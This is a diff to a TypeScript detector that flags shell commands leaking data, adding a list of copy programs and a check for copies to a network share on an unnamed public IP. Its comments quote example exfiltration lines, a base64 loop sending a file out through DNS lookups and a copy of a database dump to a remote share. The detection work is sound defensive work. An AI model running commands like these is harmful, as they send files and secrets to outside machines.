@@ -24,7 +24,14 @@ export function leaksByName({ name, words }: Command): boolean {
   )
 }
 
-const encoders: ReadonlySet<string> = new Set(['base64', 'base32', 'xxd', 'od', 'hexdump', 'basenc'])
+const encoders: ReadonlySet<string> = new Set([
+  'base64',
+  'base32',
+  'xxd',
+  'od',
+  'hexdump',
+  'basenc',
+])
 
 /** `for c in $(base64 -w30 file); do dig $c.x.example; done`: a file, piece by piece, as labels of names. */
 export function leaksByLoop(commands: readonly Command[]): boolean {
@@ -93,6 +100,28 @@ export function isNamelessHost(text: string): boolean {
     )?.[1]
   if (host === undefined) return isExfiltrationHost(text)
   return !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.)/.test(host)
+}
+
+/** Programs that copy to where their last operand says, a share of another machine included. */
+export const copiers: ReadonlySet<string> = new Set([
+  'cp',
+  'copy',
+  'copy-item',
+  'move',
+  'move-item',
+  'mv',
+  'xcopy',
+  'robocopy',
+])
+
+/** `copy db.sql \\203.0.113.5\share`: a share on a public machine without a name. */
+export function copiesToShare({ name, args }: Command): boolean {
+  if (!copiers.has(name)) return false
+  return args.some((arg, at) => {
+    if (at === 0 || !arg.startsWith('\\')) return false
+    const host = arg.replace(/^\\{1,4}/, '')
+    return /^\d/.test(host) && isNamelessHost(host.slice(0, 64).replace(/\\/g, '/'))
+  })
 }
 
 /** A web server over a folder that holds the system or a whole home. */
